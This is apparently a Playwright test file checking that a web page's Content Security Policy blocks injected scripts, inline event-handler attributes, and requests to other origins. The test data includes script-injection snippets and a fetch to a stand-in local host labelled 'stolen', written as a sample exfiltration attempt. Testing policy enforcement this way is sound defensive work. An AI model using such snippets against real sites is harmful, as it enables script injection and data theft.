"""What the page's policy keeps out, as the browser enforces it."""

from __future__ import annotations

from collections.abc import Callable

from playwright.sync_api import expect

from tests.doubles.browsing import Desk, Seen

Look = Callable[..., Seen]

PUT = "(text) => document.body.append(Object.assign(document.createElement('script'), {textContent: text}))"
ATTRIBUTE = "() => { document.body.setAttribute('onclick', 'window.ran = true'); document.body.click() }"
SENT = "() => fetch('http://127.0.0.1:9/?stolen').catch(() => undefined)"
TOLD = "window.told = []; addEventListener('securitypolicyviolation', (each) => told.push(each.effectiveDirective))"


def test_nothing_runs_that_was_put_into_the_page(look: Look, fleet: Desk) -> None:
    """GIVEN the page WHEN a script or an attribute of it would be run THEN the browser refuses each, and says so."""
    seen = look(fleet)
    seen.page.add_init_script(TOLD)
    seen.sign_in()
    expect(seen.page.locator(".apps-name").first).to_be_visible()
    assert [] == seen.page.evaluate("told")  # nothing of its own is refused
    seen.page.evaluate(PUT, "window.ran = true")
    seen.page.evaluate(ATTRIBUTE)
    seen.page.wait_for_function("told.length === 2")
    assert ["script-src-elem", "script-src-attr"] == seen.page.evaluate("told")
    assert seen.page.evaluate("window.ran === undefined")
    seen.forgive("Content Security Policy")


def test_nothing_is_sent_elsewhere(look: Look, fleet: Desk) -> None:
    """GIVEN the page WHEN something would be sent to another place THEN the browser refuses it."""
    seen = look(fleet)
    seen.page.add_init_script(TOLD)
    seen.sign_in()
    expect(seen.page.locator(".apps-name").first).to_be_visible()
    seen.page.evaluate(SENT)
    seen.page.wait_for_function("told.length === 1")
    assert ["connect-src"] == seen.page.evaluate("told")
    seen.forgive("Content Security Policy")
